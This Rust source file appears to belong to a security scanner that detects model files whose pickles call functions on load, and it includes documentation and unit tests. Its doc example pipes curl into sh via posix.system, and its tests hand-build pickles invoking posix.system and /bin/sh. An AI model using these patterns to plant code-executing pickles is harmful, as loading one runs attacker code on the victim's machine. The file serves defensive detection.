//! A pickle that calls a function when it is loaded.

use palisade_base::{Check, Confidence, Finding, Severity};
use palisade_formats::pickle::{Call, Callee, Danger, import_danger};

use crate::{
    Input,
    input::model::{Lies, Pickle},
};

palisade_base::meta! {
    /// ## What it does
    ///
    /// Walks every opcode of every pickle (protocols 0 to 5, several in a row, inside PyTorch archives, NumPy arrays,
    /// joblib files, ZIP and tar archives, gzip, and constants of other pickles, also where these are wrapped in base64,
    /// hexadecimal digits, zlib or gzip) without loading it, and works out which names a load would import and what it
    /// would call. Names are followed through the memo, through containers, through paths of attributes, through the
    /// aliases of Python 2, and through calls of the standard library that put strings together or decode them.
    ///
    /// Containers, numbers, arrays and the functions that put tensors and arrays together again are known to be
    /// harmless. Everything else is reported by what it is: functions that run code or reach files, processes or the
    /// network are critical, other functions high. So is a class whose constructor gets a path, an address, a command or
    /// code. Classes of unknown packages are medium if their constructor gets other text or a function, and low if an
    /// object is made of them from data alone; classes of known libraries are info.
    /// Setting attributes of something imported counts as a call, and so do states that replace the methods a loader
    /// calls. A pickle in a constant that nothing loads counts if it calls a function.
    ///
    /// ## Why it matters
    ///
    /// Loading a pickle runs a small program that its author wrote. That program can call any function of any installed
    /// package with any arguments, before the caller sees a single weight. A model from a stranger is a program from a
    /// stranger.
    ///
    /// ## Example
    ///
    /// ```text
    /// 0: GLOBAL 'posix system'
    /// 14: MARK
    /// 15: STRING 'curl example.com/x | sh'
    /// 42: TUPLE
    /// 43: REDUCE      <- calls posix.system('curl example.com/x | sh')
    /// ```
    ///
    /// ## What to do
    ///
    /// Do not load the file. Ask its author for the weights as safetensors or ONNX. If only its tensors matter,
    /// `palisade scan model.pt --convert model.safetensors` writes them without loading the file, or says what else is in
    /// it. Otherwise convert them in a sandbox without network and credentials. For classes of your own, save the state (`state_dict()`, arrays, plain dictionaries)
    /// instead of the object. `torch.load(..., weights_only=True)` refuses most such files, but has been bypassed.
    ///
    /// ## Limits
    ///
    /// What a known class does with its state is not looked into. Names that are computed in ways that are not followed
    /// are shown as `?`, and calling one counts as calling a function. Constants packed by bzip2 or xz are not unpacked.
    /// Of long containers and of long pickles the walk remembers what may hold a function, and a number of the latest
    /// values; where it has lost sight, it assumes the worse. Several pickles in a row are taken to be loaded by one
    /// loader each. RAR archives are not unpacked. Large tar archives that are compressed are opened only if their name, or
    /// one of their first members, says that they hold a model.
    ///
    /// ## References
    ///
    /// - Python documentation, `pickle`: "Never unpickle data received from an untrusted source"
    /// - CWE-502, Deserialization of Untrusted Data
    /// - MITRE ATLAS AML.T0011.000, Unsafe ML Artifacts
    static META: Check = {
        name: "pickle-call",
        summary: "a model file calls a function when it is loaded",
        severity: Critical,
        components: [Model],
        threats: [SupplyChain],
        stages: [Model, Deployment],
        since: "0.1.0",
    }
}

pub(super) struct PickleCall;

impl<'a> Check<Input<'a>> for PickleCall {
    fn meta(&self) -> &'static palisade_base::Meta {
        &META
    }

    fn examines(&self, input: &Input<'a>) -> bool {
        matches!(input, Input::Pickle(_))
    }

    fn run(&self, input: &Input<'a>, report: &mut dyn FnMut(Finding)) {
        let Input::Pickle(pickle) = input else { return };
        for danger in [Danger::Class, Danger::ForeignClass] {
            let mut classes = pickle.walk.calls.iter().filter(|call| call.danger == danger);
            if let (Some(first), Lies::Open(_) | Lies::Constant { loaded: true, .. }) = (classes.next(), &pickle.lies) {
                report(of_classes(pickle, first, classes.count() + 1));
            }
        }
        for call in &pickle.walk.calls {
            if let Some(severity) = severity(call.danger, &pickle.lies) {
                report(of_call(pickle, call, severity));
            }
        }
        imports(pickle, report);
    }
}

/// How bad a call is, by what is called and by whether loading the file makes it.
fn severity(danger: Danger, lies: &Lies) -> Option<Severity> {
    let loaded = matches!(lies, Lies::Open(_) | Lies::Constant { loaded: true, .. });
    // A constant that is a pickle as a whole was put there; what lies among weights may look like one.
    let placed = matches!(lies, Lies::Constant { .. });
    match (danger, loaded) {
        // Classes that are made of data alone are reported together.
        (Danger::Harmless | Danger::Class | Danger::ForeignClass, _) | (Danger::ForeignCall, false) => None,
        (Danger::ForeignCall, true) => Some(Severity::Medium),
        (Danger::Function, false) if !placed => Some(Severity::Medium),
        (Danger::Function, _) | (Danger::Executor, false) => Some(Severity::High),
        (Danger::Executor, true) => Some(Severity::Critical),
    }
}

fn of_call(pickle: &Pickle<'_>, call: &Call, severity: Severity) -> Finding {
    let arguments = call.arguments.join(", ");
    let does = match (call.opcode, call.danger) {
        ("BUILD" | "SETITEM" | "SETITEMS" | "APPEND" | "APPENDS" | "ADDITEMS", _) => {
            format!("alters `{}` for the whole process", call.callee)
        }
        (_, Danger::ForeignCall) => format!("calls `{}({arguments})`, of a package that is not known", call.callee),
        _ => match &call.callee {
            Callee::Named(name) => format!("calls `{name}({arguments})`"),
            other => format!("calls {other}"),
        },
    };
    let (message, confidence) = match &pickle.lies {
        Lies::Open(_) => (format!("loading it {does}"), Confidence::High),
        Lies::Constant { loaded: true, .. } => {
            (format!("loading it loads a second pickle, which {does}"), Confidence::High)
        }
        Lies::Constant { .. } => {
            (format!("a constant holds a second pickle, which {does} once loaded"), Confidence::Medium)
        }
        Lies::Hidden(_) => {
            (format!("a pickle is hidden behind the content; it {does} once loaded"), Confidence::Medium)
        }
    };
    let label = match call.times {
        1 => format!("{} here", call.opcode),
        times => format!("{} here, and {} more times", call.opcode, times - 1),
    };
    Finding::builder(&META, pickle.evidence(call.offset, label), message)
        .severity(severity)
        .confidence(confidence)
        .advice("do not load this file; ask for the weights as safetensors or ONNX")
        .build()
}

fn of_classes(pickle: &Pickle<'_>, first: &Call, count: usize) -> Finding {
    let (of, severity) = match first.danger {
        Danger::Class => ("known libraries", Severity::Info),
        _ => ("packages that are not known", Severity::Low),
    };
    let message = match count {
        1 => format!("loading it makes an object of `{}`, a class of {of}", first.callee),
        count => format!("loading it makes objects of {count} classes of {of}, such as `{}`", first.callee),
    };
    Finding::builder(&META, pickle.evidence(first.offset, format!("{} here", first.opcode)), message)
        .severity(severity)
        .build()
}

/// Names that are imported and not called: handing one to an object lets something else call it later.
fn imports(pickle: &Pickle<'_>, report: &mut dyn FnMut(Finding)) {
    for import in &pickle.walk.imports {
        // A name that nobody can read is meant to hide what it is.
        let computed = import.name.module == "?" || import.name.name == "?";
        let severity = match (import_danger(&import.name), &pickle.lies) {
            (_, Lies::Open(_) | Lies::Constant { loaded: true, .. }) if computed => Severity::High,
            (Danger::Executor, Lies::Open(_) | Lies::Constant { loaded: true, .. }) => Severity::High,
            (Danger::ForeignCall | Danger::Function, Lies::Open(_)) => Severity::Medium,
            _ => continue,
        };
        if !import.called {
            let message = format!("loading it imports `{}`, which whoever uses the result may call", import.name);
            let evidence = pickle.evidence(import.offset, "imported here".to_owned());
            report(Finding::builder(&META, evidence, message).severity(severity).build());
        }
    }
}

#[cfg(test)]
mod tests {
    use std::io::{Cursor, Write};

    use palisade_base::Evidence;
    use zip::{ZipWriter, write::SimpleFileOptions};

    use super::*;
    use crate::testing::findings;

    fn severities(name: &str, bytes: &[u8]) -> Vec<Severity> {
        findings("pickle-call", name, bytes).iter().map(|finding| finding.severity).collect()
    }

    fn zipped(members: &[(&str, &[u8])]) -> Vec<u8> {
        let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
        for (name, bytes) in members {
            writer.start_file(*name, SimpleFileOptions::default()).unwrap();
            writer.write_all(bytes).unwrap();
        }
        writer.finish().unwrap().into_inner()
    }

    const CALL: &[u8] = b"\x80\x02cposix\nsystem\nU\x04echo\x85R.";
    const TENSOR: &[u8] = b"\x80\x02ccollections\nOrderedDict\n)RU\x01actorch._utils\n_rebuild_tensor_v2\n)Rs.";

    #[test]
    fn the_call_is_named_and_placed() {
        let findings = findings("pickle-call", "m.pkl", CALL);
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].message, "loading it calls `posix.system(\"echo\")`");
        assert_eq!(findings[0].severity, Severity::Critical);
        assert_eq!(findings[0].target.place.unwrap().offset, 23);
        assert!(matches!(&findings[0].evidence[0], Evidence::Span { excerpt, .. } if excerpt.marked_text() == "52"));
    }

    #[test]
    fn tensors_are_quiet() {
        assert_eq!(severities("m.pkl", TENSOR), []);
        assert_eq!(severities("m.pt", &zipped(&[("archive/data.pkl", TENSOR), ("archive/data/0", &[0; 64])])), []);
    }

    #[test]
    fn severity_is_by_what_is_called() {
        for (pickle, severity) in [
            (&b"\x80\x02cmy.code\nmake\n)R."[..], Severity::High),
            (b"\x80\x02cmy.code\nNet\n)\x81.", Severity::Low),
            (b"\x80\x02cmy.code\nNet\nK\x03\x85R.", Severity::Low),
            (b"\x80\x02cmy.code\nNet\nU\x05train\x85R.", Severity::Medium),
            (b"\x80\x02cmy.code\nNet\nU\x07/bin/sh\x85R.", Severity::High),
            (b"\x80\x02csklearn.svm._classes\nSVC\n)\x81.", Severity::Info),
            (b"\x80\x02cfunctools\npartial\ncposix\nsystem\n\x85R.", Severity::High),
        ] {
            assert_eq!(severities("m.pkl", pickle), [severity], "{pickle:?}");
        }
    }

    #[test]
    fn members_are_opened_whatever_they_are_called() {
        for name in ["archive/data.pkl", "config.p", "weights/0", "readme.txt"] {
            assert_eq!(severities("m.pt", &zipped(&[(name, CALL)])), [Severity::Critical], "{name}");
        }
        let nested = zipped(&[("inner.zip", &zipped(&[("data.pkl", CALL)]))]);
        let found = findings("pickle-call", "m.zip", &nested);
        assert_eq!(found[0].target.artifact.entry_name(), Some("inner.zip!data.pkl"));
    }

    #[test]
    fn object_arrays_are_pickles() {
        let header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n";
        let mut bytes = b"\x93NUMPY\x01\0".to_vec();
        bytes.extend(u16::try_from(header.len()).unwrap().to_le_bytes());
        bytes.extend(header);
        bytes.extend(CALL);
        assert_eq!(severities("a.npy", &bytes), [Severity::Critical]);
        assert_eq!(severities("a.npz", &zipped(&[("a.npy", &bytes)])), [Severity::Critical]);
    }

    #[test]
    fn plain_arrays_are_judged_and_silent() {
        let array = |header: &str, data: &[u8]| {
            let len = u16::try_from(header.len()).unwrap().to_le_bytes();
            [b"\x93NUMPY\x01\0".as_slice(), &len, header.as_bytes(), data].concat()
        };
        let header = "{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }\n";
        let plain = array(header, &[1; 16]);
        let seen = crate::testing::observe("a.npy", &plain, None);
        assert_eq!((seen.findings.len(), seen.unscanned.len(), seen.stats.judged), (0, 0, 1));
        let odd = |bytes: &[u8]| findings("disguised-model", "a.npy", bytes).len();
        assert_eq!(
            (odd(&plain), odd(&[plain.as_slice(), b"more"].concat()), odd(&plain[..plain.len() - 1])),
            (0, 1, 0)
        );
        assert_eq!(findings("malformed-model", "a.npy", &plain[..plain.len() - 1]).len(), 1);
        assert_eq!(severities("a.npy", &[plain.as_slice(), CALL].concat()), [Severity::High]);
        let fields = "{'descr': [('a', '<i4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }\n";
        assert_eq!(severities("a.npy", &array(fields, CALL)), [Severity::Critical]);
        // The pickle begins a few bytes behind where the header ends.
        assert_eq!(severities("a.npy", &array(fields, &[b"    \n", CALL].concat())), [Severity::High]);
    }

    #[test]
    fn pickles_in_constants_count_if_they_call_a_function() {
        let constant = |inner: &[u8]| {
            let len = u8::try_from(inner.len()).unwrap();
            [b"\x80\x04}\x8c\x01kC".as_slice(), &[len], inner, b"s."].concat()
        };
        assert_eq!(severities("m.pkl", &constant(CALL)), [Severity::High]);
        assert_eq!(severities("m.pkl", &constant(b"\x80\x02cmy.code\nmake\n)R.")), [Severity::High]);
        assert_eq!(severities("m.pkl", &constant(b"\x80\x02cmy.code\nNet\n)\x81.")), []);
        assert_eq!(severities("m.pkl", &constant(TENSOR)), []);
        let loaded =
            [b"\x80\x03ctorch.storage\n_load_from_bytes\nC".as_slice(), &[u8::try_from(CALL.len()).unwrap()], CALL];
        assert_eq!(severities("m.pkl", &[&loaded.concat(), b"\x85R.".as_slice()].concat()), [Severity::Critical]);
    }

    #[test]
    fn what_no_pickler_writes_is_odd() {
        let odd = |bytes: &[u8]| findings("malformed-model", "m.pkl", bytes).len();
        assert_eq!(odd(b"\x80\x04]2a."), 1);
        assert_eq!(odd(b"\x80\x04]\x94h\0a."), 0);
    }

    #[test]
    fn a_broken_pickle_counts_up_to_where_it_breaks() {
        let broken = [&CALL[..CALL.len() - 1], b"\xff\xff"].concat();
        assert_eq!(severities("m.bin", &broken), [Severity::Critical]);
        let seen = crate::testing::observe("m.bin", &broken, None);
        assert!(seen.unscanned[0].reason.contains("breaks"), "{:?}", seen.unscanned);
    }

    #[test]
    fn text_is_left_alone() {
        for text in ["import os\nos.system('x')\n", "class A:\n    pass\n", "(a list)\n", "Name: x\nVersion: 1\n"] {
            let seen = crate::testing::observe("a.py", text.as_bytes(), None);
            assert_eq!(
                seen.findings.iter().filter(|f| f.rule.components.contains(&palisade_base::Component::Model)).count(),
                0,
                "{text}"
            );
            assert!(seen.unscanned.is_empty());
        }
    }
}
